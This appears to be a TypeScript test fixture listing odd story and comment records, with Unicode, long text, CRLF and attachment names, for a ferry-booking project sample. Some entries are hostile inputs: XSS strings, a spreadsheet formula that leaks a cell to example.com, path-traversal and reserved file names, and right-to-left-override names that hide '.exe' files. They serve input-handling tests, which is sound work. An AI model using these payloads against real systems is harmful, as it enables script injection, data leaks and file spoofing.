// The odd cases that real projects hold, woven into the sample: each once, in one story or one comment. Data only.
import { NumberText } from '../server/v5/number-text.ts';
import type { V5Record } from '../server/v5/source.ts';

export interface StoryOddity {
  /** Instead of the ordinary ones. */
  readonly attributes?: V5Record;
  /** Carries the first so many labels. */
  readonly labels?: number;
  /** When it was accepted, in relation to its other dates. */
  readonly accepted?: 'after its update' | 'before its creation';
}

export interface CommentOddity {
  readonly text?: string | null;
  /** Each is attached under this name. */
  readonly files?: readonly OddFile[];
}

export interface OddFile {
  readonly name: string;
  /** In bytes; absent: as other files. */
  readonly size?: number;
}

const stackTrace = Array.from(
  { length: 155 },
  (_, line) =>
    `    at Booking::PriceTotal#add_leg (app/models/booking/price_total.rb:${line + 7}:in 'each_with_index')  # frame ${line}`,
).join('\n');

const name = (text: string): StoryOddity => ({ attributes: { name: text } });
const description = (text: string): StoryOddity => ({ attributes: { description: text } });

export const storyOddities: readonly StoryOddity[] = [
  name('<script>alert(0);</script> in the search box is shown as a dialog'),
  {
    attributes: {
      name: 'Caf\u0081 menu shows broken letters',
      description: 'Mojibake: \u0080 \u0083 caf\u008f and \u0091quotes\u0091',
    },
  },
  name('=HYPERLINK("http://example.com/?leak="&A1,"Price list")'),
  { attributes: { name: '+1 for the return leg', description: '- first the price\n- then the time' } },
  name('@harbour: who owns the kiosk?'),
  description('First line\r\nSecond line\r\n\r\n\tindented\r\n'),
  name('  Price with blanks before and after  '),
  name('Fahr\u00adpreis\u00adermäßi\u00adgung für Pendler'),
  { labels: 32 },
  name('إلغاء رحلة العودة وحدها'),
  name('往復の復路だけをキャンセルできる'),
  {
    attributes: {
      name: 'Weather emoji ⛴️🌧️👩🏽‍✈️ in the timetable',
      description: 'Family: 👨‍👩‍👧‍👦, flag: 🇸🇪, zero width:\u200b\u2060 end',
    },
  },
  { attributes: { story_type: 'chore', estimate: 2 } },
  { attributes: { story_type: 'bug', estimate: 1 } },
  { attributes: { story_type: 'feature', estimate: new NumberText('3.0') } },
  { attributes: { story_type: 'feature', estimate: new NumberText('0.5') } },
  { accepted: 'after its update' },
  { accepted: 'before its creation' },
  description(`Import breaks, full trace:\n\n\`\`\`\n${stackTrace}\n\`\`\`\n`),
  name(
    'A passenger who has booked a return crossing with a vehicle that is longer than six metres and at least one bicycle is told which of the two car decks has room left before the payment page opens',
  ),
  description(
    'NUL here: \u0000, separators \u2028 and \u2029, right-to-left override \u202egpj.exe, tab\tand bell\u0007.',
  ),
  { attributes: { external_id: 'FERRY-1734', integration_id: 54_018 } },
  { attributes: { name: 'Moved here from the old project', description: 'It kept its id: #190000042' } },
  name('\u202etfel ot thgir\u202c and back again'),
  description('[not a link](javascript:alert(1)) <img src=x onerror=alert(2)> "quotes" and \\ backslash'),
  { attributes: { name: '"quoted", with; separators\tand a tab' } },
];

const file = (fileName: string, size?: number): CommentOddity => ({
  files: [size === undefined ? { name: fileName } : { name: fileName, size }],
});

export const commentOddities: readonly CommentOddity[] = [
  { text: null, files: [{ name: 'only the picture.png' }] },
  file('../../evil.txt'),
  file('CON'),
  file('aux.txt'),
  file('name with spaces.txt'),
  file('in/a/folder.txt'),
  file('back\\slash.txt'),
  file('..'),
  file('~$report?.xls*|<>"'),
  file('über straße.pdf'),
  file('u\u0308ber.pdf'),
  file('船の時刻表.pdf'),
  file('⛴️ plan.png'),
  file(`${'é'.repeat(160)}.txt`),
  file(`${'a'.repeat(255)}.log`),
  file('invoice\u202efdp.exe'),
  file('two\nlines.txt'),
  file('ends with a dot.'),
  file('.hidden'),
  file('empty.txt', 0),
  { files: [{ name: 'same.txt' }, { name: 'same.txt' }, { name: 'SAME.TXT' }] },
  file('Gemfile', 144),
  file('Gemfile', 144),
  { text: '@mlindqvist please look at this' },
  { text: '=1+1' },
  { text: '<script>alert("comment")</script>' },
  { text: 'Pasted from Windows\r\nwith two lines\r\n' },
  { text: '   ' },
  { text: 'Half a surrogate: \ud83d and the whole one: 🚢' },
  { text: 'https://example.com/a?b=c&d=[1]#e **bold** `code` ~~gone~~\n\n> quoted\n\n1. one\n2. two' },
];
